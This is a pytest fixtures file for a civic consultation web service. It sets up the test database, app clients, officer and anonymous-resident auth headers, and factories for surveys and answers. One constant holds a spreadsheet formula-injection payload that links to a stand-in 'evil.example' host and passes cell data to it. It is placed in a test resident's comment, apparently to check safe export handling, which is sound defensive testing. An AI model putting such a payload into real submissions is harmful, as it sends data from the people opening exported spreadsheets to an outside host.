"""Fixtures of the consultation tests: a fresh database per test, the app, and data factories."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import httpx
import pytest

from localrights.auth import Role
from localrights.testing.helpers import anonymous, bearer, running_app
from localrights_consultation.config import Settings
from localrights_consultation.main import create_app

MIGRATIONS = Path(__file__).resolve().parents[1] / "migrations"


def text(en: str) -> dict[str, str]:
    return {"en": en, "fr": f"{en} (fr)"}


def questions() -> list[dict[str, Any]]:
    """One question of every type, plus a demographic age band."""

    def options(*ids: str) -> list[dict[str, Any]]:
        return [{"id": i, "label": text(i)} for i in ids]

    return [
        {
            "id": "housing",
            "type": "single_choice",
            "title": text("Housing affordable?"),
            "options": options("yes", "no"),
            "required": True,
        },
        {
            "id": "services",
            "type": "multiple_choice",
            "title": text("Services used"),
            "options": options("clinic", "library", "bus"),
            "min_picks": 1,
            "max_picks": 2,
        },
        {
            "id": "safety",
            "type": "rating",
            "title": text("How safe do you feel?"),
            "min": 1,
            "max": 5,
        },
        {"id": "comment", "type": "free_text", "title": text("Anything else?"), "max_length": 200},
        {
            "id": "priorities",
            "type": "ranking",
            "title": text("Rank priorities"),
            "options": options("water", "roads", "schools"),
        },
        {
            "id": "budget",
            "type": "budget",
            "title": text("Split the budget"),
            "projects": [
                {"id": "park", "label": text("Park"), "cost": 600},
                {"id": "lights", "label": text("Street lights"), "cost": 500},
            ],
            "total_budget": 1000,
        },
        {
            "id": "age",
            "type": "single_choice",
            "title": text("Age band"),
            "demographic": True,
            "options": options("youth", "adult", "senior"),
        },
    ]


def consultation_body(**overrides: Any) -> dict[str, Any]:
    now = datetime.now(UTC)
    body: dict[str, Any] = {
        "title": text("Housing in Wonosobo"),
        "description": text("Tell us about housing"),
        "jurisdiction": "ID-JT",
        "municipality": "Wonosobo",
        "opens_at": (now - timedelta(minutes=1)).isoformat(),
        "closes_at": (now + timedelta(days=7)).isoformat(),
        "participation_mode": "open",
        "sdg_targets": ["11.1", "16.7"],
        "recommendation_ids": [str(uuid4())],
        "exercise_id": str(uuid4()),
        "questions": questions(),
    }
    body.update(overrides)
    return body


def good_answers(**overrides: Any) -> dict[str, Any]:
    answers: dict[str, Any] = {
        "housing": "no",
        "services": ["clinic", "bus"],
        "safety": 4,
        "comment": "More buses please",
        "priorities": ["water", "schools", "roads"],
        "budget": {"park": 400, "lights": 500},
        "age": "adult",
    }
    answers.update(overrides)
    return {k: v for k, v in answers.items() if v is not None}


@pytest.fixture
async def settings(
    migrated_database: Callable[[Path], Awaitable[str]],
    kafka_bootstrap_servers: str,
    internal_jwt_secret: str,
    topic_prefix: str,
) -> Settings:
    return Settings(
        database_url=await migrated_database(MIGRATIONS),
        kafka_bootstrap_servers=kafka_bootstrap_servers,
        internal_jwt_secret=internal_jwt_secret,
        kafka_topic_prefix=topic_prefix,
        close_interval_seconds=0.2,
        log_json=False,
    )


@pytest.fixture
async def client(settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    async with running_app(create_app(settings)) as http:
        yield http


@pytest.fixture
def institution_id() -> UUID:
    return uuid4()


@pytest.fixture
def officer(internal_jwt_secret: str, institution_id: UUID) -> dict[str, str]:
    """Headers of an officer of the institution that owns the test's consultations."""
    return bearer(
        internal_jwt_secret, Role.INSTITUTION_OFFICER, institution_id=institution_id, country="ID"
    )


@pytest.fixture
def other_officer(internal_jwt_secret: str) -> dict[str, str]:
    """Headers of an officer of another institution."""
    return bearer(internal_jwt_secret, Role.INSTITUTION_OFFICER, institution_id=uuid4())


@pytest.fixture
def resident(internal_jwt_secret: str) -> Callable[[str], dict[str, str]]:
    """Headers of an anonymous resident behind the gateway, by pseudonymous client key."""
    return lambda client="resident-1": anonymous(internal_jwt_secret, client=client)


Factory = Callable[..., Awaitable[dict[str, Any]]]


@pytest.fixture
def make_consultation(client: httpx.AsyncClient, officer: dict[str, str]) -> Factory:
    """Create (and by default open) a consultation; returns its JSON."""

    async def make(*, open_it: bool = True, **overrides: Any) -> dict[str, Any]:
        created = await client.post(
            "/api/v1/consultations", json=consultation_body(**overrides), headers=officer
        )
        assert created.status_code == 201, created.text
        body: dict[str, Any] = created.json()
        if open_it:
            opened = await client.post(f"/api/v1/consultations/{body['id']}/open", headers=officer)
            assert opened.status_code == 200, opened.text
            body = opened.json()
        return body

    return make


@pytest.fixture
def new_body() -> Callable[..., dict[str, Any]]:
    """``new_body(**overrides)``: a valid consultation definition to POST."""
    return consultation_body


@pytest.fixture
def answers() -> Callable[..., dict[str, Any]]:
    """``answers(**overrides)``: valid answers to every question (None drops one)."""
    return good_answers


INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def answer_groups(
    client: httpx.AsyncClient, resident: Callable[..., dict[str, str]]
) -> Callable[[str, dict[str, int]], Awaitable[None]]:
    """``await answer_groups(consultation_id, {"youth": 12, ...})``: that many responses per age
    group, each from its own device; the first senior's comment is a spreadsheet formula."""

    async def answer(consultation_id: str, groups: dict[str, int]) -> None:
        jobs = []
        for group, size in groups.items():
            for n in range(size):
                extra = {"comment": INJECTION} if group == "senior" and n == 0 else {}
                body = {"answers": good_answers(age=group, safety=1 + n % 5, **extra)}
                jobs.append(
                    client.post(
                        f"/api/v1/consultations/{consultation_id}/responses",
                        json=body,
                        headers=resident(f"{group}-{n}"),
                    )
                )
        for chunk in range(0, len(jobs), 16):
            sent = await asyncio.gather(*jobs[chunk : chunk + 16])
            assert {r.status_code for r in sent} == {201}, [
                r.text for r in sent if r.status_code != 201
            ]

    return answer
